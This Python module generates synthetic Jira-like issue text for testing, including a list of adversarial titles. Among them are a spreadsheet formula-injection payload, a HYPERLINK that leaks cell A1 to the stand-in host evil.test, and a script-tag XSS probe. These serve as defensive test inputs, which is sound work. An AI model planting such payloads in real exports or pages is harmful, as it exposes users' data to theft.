"""Deterministic issue text: plausible summaries, adversarial titles, descriptions, comments.

Descriptions and comments are derived on demand from (seed, issue id) so 100k issues cost no
memory for them; edits store an explicit override on the issue instead.
"""

from __future__ import annotations

import random
from typing import Any

VERBS = (
    "Add",
    "Fix",
    "Refactor",
    "Remove",
    "Improve",
    "Migrate",
    "Document",
    "Test",
    "Investigate",
    "Speed up",
    "Localise",
    "Harden",
    "Split",
    "Instrument",
)
THINGS = (
    "login form",
    "checkout flow",
    "search results",
    "order history",
    "push tokens",
    "billing webhook",
    "invoice PDF",
    "onboarding tour",
    "rate limiter",
    "audit log",
    "CSV export",
    "profile page",
    "session cache",
    "feature flags",
    "retry policy",
    "dark mode",
    "password reset",
    "API pagination",
    "price rounding",
    "image upload",
)
CONTEXTS = (
    "on Android",
    "on iOS",
    "for EU customers",
    "in Safari",
    "behind the proxy",
    "after timeout",
    "for admins",
    "in staging",
    "under load",
    "for new users",
    "",
    "",
    "",
    "",
)

ADVERSARIAL: tuple[str, ...] = (
    '=HYPERLINK("http://evil.test/?leak="&A1,"Click me")',
    "+1 for dark mode (customer ask)",
    "-2+3 rounding error in totals",
    "@SUM(A1:A9) shows up in the export",
    "Control\x07chars\x1b[31m and \x0bvertical tab in a title",
    "Quote \"double\" and 'single' and `backtick`",
    'JQL-special: project = "X" OR key ~ "*" AND (a|b) [c] {d} \\ % & ! ?',
    "🚀 Launch checklist ✅ for release 🎉",
    "مرحبا — RTL checkout copy (الدفع)",
    "修复登录页面的问题 / ログイン画面の修正",
    "Zero\u200dwidth\u200cjoiners and combining e\u0301 accents",
    "Tab\tseparated\tsummary",
    "<script>alert('x')</script> in comment preview",
    "NULL",
    "   leading and trailing spaces   ",
)

WORDS = (
    "the",
    "service",
    "returns",
    "a",
    "stale",
    "value",
    "when",
    "users",
    "retry",
    "after",
    "network",
    "loss",
    "we",
    "should",
    "cache",
    "per",
    "tenant",
    "and",
    "log",
    "it",
    "acceptance",
    "criteria",
    "include",
    "metrics",
    "dashboard",
    "alerts",
    "latency",
)


def summary(rng: random.Random) -> str:
    """A plausible issue summary."""
    ctx = rng.choice(CONTEXTS)
    text = f"{rng.choice(VERBS)} {rng.choice(THINGS)}"
    return f"{text} {ctx}" if ctx else text


def epic_summary(rng: random.Random, number: int) -> str:
    """A plausible epic name."""
    return (
        f"{rng.choice(('Launch', 'Rebuild', 'Scale', 'Modernise', 'Ship'))} "
        f"{rng.choice(THINGS)} (E{number})"
    )


def _rng(seed: int, issue_id: int, salt: int) -> random.Random:
    return random.Random((seed * 1_000_003 + issue_id) * 31 + salt)


def description(seed: int, issue_id: int) -> str | None:
    """Plain-text description for an issue; some are empty, some very long (>32,767 chars)."""
    rng = _rng(seed, issue_id, 1)
    roll = rng.random()
    if roll < 0.15:
        return None
    paragraphs = 1 + rng.randrange(3)
    if roll > 0.997:
        paragraphs = 400  # very long: beyond Excel's 32,767-character cell limit
    out = []
    for _ in range(paragraphs):
        out.append(" ".join(rng.choice(WORDS) for _ in range(12 + rng.randrange(20))) + ".")
    return "\n\n".join(out)


def comments(
    seed: int, issue_id: int, created: int, updated: int, authors: list[int]
) -> list[tuple[int, int, str]]:
    """0–2 comments as (epoch ms, author index, text), within the issue's lifetime."""
    rng = _rng(seed, issue_id, 2)
    count = rng.choice((0, 0, 1, 2))
    span = max(updated - created, 1)
    out = []
    for i in range(count):
        at = created + int(span * (i + 1) / (count + 1))
        text = " ".join(rng.choice(WORDS) for _ in range(6 + rng.randrange(10)))
        out.append((at, rng.choice(authors), text.capitalize() + "."))
    return out


def adf(text: str | None) -> dict[str, Any] | None:
    """Atlassian Document Format for plain text (paragraph per blank-line block)."""
    if text is None:
        return None
    content: list[dict[str, Any]] = []
    for para in text.split("\n\n"):
        if para:
            content.append({"type": "paragraph", "content": [{"type": "text", "text": para}]})
        else:
            content.append({"type": "paragraph", "content": []})
    return {"type": "doc", "version": 1, "content": content}


def adf_to_text(doc: Any) -> str | None:
    """Flatten an ADF document (or a plain string) sent by a client back to text."""
    if doc is None or isinstance(doc, str):
        return doc
    parts: list[str] = []

    def walk(node: Any) -> None:
        if isinstance(node, dict):
            if node.get("type") == "text":
                parts.append(str(node.get("text", "")))
            for child in node.get("content", []) or []:
                walk(child)
            if node.get("type") == "paragraph":
                parts.append("\n\n")
        elif isinstance(node, list):
            for child in node:
                walk(child)

    walk(doc)
    return "".join(parts).strip("\n") or None
